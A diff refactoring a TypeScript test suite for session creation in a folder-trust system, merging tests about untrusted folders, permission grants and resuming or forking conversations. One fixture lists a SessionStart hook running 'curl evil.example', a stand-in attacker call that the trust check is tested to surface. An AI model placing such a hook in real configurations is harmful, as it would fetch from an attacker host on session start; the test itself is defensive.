@@ -5,7 +5,6 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { ApiError } from "../../api/api-error.ts";
 import type { HostSession, NewSession } from "../../api/host-session.ts";
-import { readFolderConfig } from "../../files/folder-config.ts";
 import { openJournal } from "../../journal/sqlite-journal.ts";
 import type { HostData } from "../host-data.ts";
 import { createSession, type NewSessionPorts } from "../new-session.ts";
@@ -41,7 +40,6 @@ function openPorts({
   const ports: NewSessionPorts = {
     journal: openJournal(":memory:"),
     config: { version: "0", dir: join(root, "own"), place, data, places: ["box"] },
-    inspectFolder: readFolderConfig,
     pastSessions: async () => ({
       sessions: [
         { session_id: CONVERSATION, updated_at: new Date(writtenAt).toISOString(), bytes: 1 },
@@ -73,17 +71,16 @@ function openPorts({
 }
 
 test("a session is created in the host's own folder, which is trusted, where no other is named", async () => {
-  const { create } = openPorts();
-  expect(await create({})).toEqual({ place: "local", dir: join(root, "own") });
+  expect(await openPorts().create({})).toEqual({ place: "local", dir: join(root, "own") });
 });
 
 test("a folder that was never used is refused with the hooks and MCP servers that it would start", async () => {
   const { create, created } = openPorts();
-  const refused = await create({ dir: join(root, "other") });
-  expect(refused).toMatchObject({
+  const dir = join(root, "other");
+  expect(await create({ dir })).toMatchObject({
     status: 409,
     code: "untrusted_dir",
-    dir: join(root, "other"),
+    dir,
     place: "local",
     hooks: [{ event: "SessionStart", command: "curl evil.example" }],
     mcp_servers: [{ name: "db", command: "db-server --all" }],
@@ -103,11 +100,10 @@ test("a trusted folder is asked about again once it grants what it did not grant
   const { create } = openPorts();
   const dir = join(root, "growing");
   const settings = join(dir, ".claude/settings.local.json");
-  const grant = (...allow: string[]) =>
-    writeFileSync(
-      settings,
-      JSON.stringify({ permissions: { allow, deny: [String(allow.length)] } }),
-    );
+  const grant = (...allow: string[]) => {
+    const permissions = { allow, deny: [String(allow.length)] };
+    writeFileSync(settings, JSON.stringify({ permissions }));
+  };
   mkdirSync(join(dir, ".claude"), { recursive: true });
   grant("Bash(ls)", "Read");
   expect(await create({ dir })).toMatchObject({ code: "untrusted_dir", was_trusted: false });
@@ -149,16 +145,6 @@ test("that the home folder and those above have the host's data is said in the q
   expect(await ports.create({ dir: home })).toEqual({ place: "local", dir: home });
 });
 
-test("a data folder that was named is refused in the home folder, too", async () => {
-  const home = join(root, "third");
-  const data = { path: join(home, "data"), isDefault: false, home };
-  const { create } = openPorts({ data });
-  expect(await create({ dir: home, trust: true })).toMatchObject({
-    code: "data_in_dir",
-    error: expect.stringContaining(data.path),
-  });
-});
-
 test("the trust in a folder counts for its real path, whatever link names it", async () => {
   const { create } = openPorts();
   const dir = join(root, "link");
@@ -179,19 +165,14 @@ test("the trust in a folder counts for one place only", async () => {
 });
 
 test("the simulator is not asked about, since it starts nothing that a folder configures", async () => {
-  const { create } = openPorts();
-  const dir = join(root, "other");
-  expect(await create({ dir, place: "simulator" })).toEqual({ place: "simulator", dir });
+  const simulated = { dir: join(root, "other"), place: "simulator" };
+  expect(await openPorts().create(simulated)).toEqual(simulated);
 });
 
-test("a folder that is none is refused", async () => {
+test("a folder that is none is refused, and a place that is none before its folder is asked for", async () => {
   const { create } = openPorts();
   for (const dir of [join(root, "nothing"), join(root, "file"), "own"])
     expect(await create({ dir, trust: true })).toMatchObject({ status: 400 });
-});
-
-test("a place that is none is refused before its folder is asked for", async () => {
-  const { create } = openPorts();
   const refused = { status: 404, code: "unknown_place" };
   for (const trust of [false, true])
     expect(await create({ dir: "/srv", place: "nowhere", trust })).toMatchObject(refused);
@@ -202,22 +183,15 @@ test("a session on another machine needs the name of its folder", async () => {
   expect(await create({ trust: true })).toMatchObject({ status: 400, field: "dir" });
 });
 
-test("a conversation that was written to in the last minute is resumed with force:true only", async () => {
+test("a conversation that was written to in the last minute is resumed with force:true only, and copied at any time", async () => {
   const { create } = openPorts({ writtenAt: NOW - 59_000 });
-  const refused = await create({ resume: CONVERSATION });
-  expect(refused).toMatchObject({ status: 409, code: "in_use" });
-  expect(await create({ resume: CONVERSATION, force: true })).toMatchObject({ place: "local" });
-});
-
-test("a conversation that was last written to a minute ago is resumed", async () => {
-  const { create, created } = openPorts({ writtenAt: NOW - 60_000 });
-  expect(await create({ resume: CONVERSATION })).toMatchObject({ place: "local" });
-  expect(created).toMatchObject([{ resume: CONVERSATION }]);
-});
-
-test("a copy of a conversation is made at any time", async () => {
-  const { create } = openPorts({ writtenAt: NOW });
-  expect(await create({ resume: CONVERSATION, fork: true })).toMatchObject({ place: "local" });
+  const resume = CONVERSATION;
+  expect(await create({ resume })).toMatchObject({ status: 409, code: "in_use" });
+  expect(await create({ resume, force: true })).toMatchObject({ place: "local" });
+  expect(await create({ resume, fork: true })).toMatchObject({ place: "local" });
+  const later = openPorts({ writtenAt: NOW - 60_000 });
+  expect(await later.create({ resume })).toMatchObject({ place: "local" });
+  expect(later.created).toMatchObject([{ resume }]);
 });
 
 test("a request that has created a session asks nothing again", async () => {
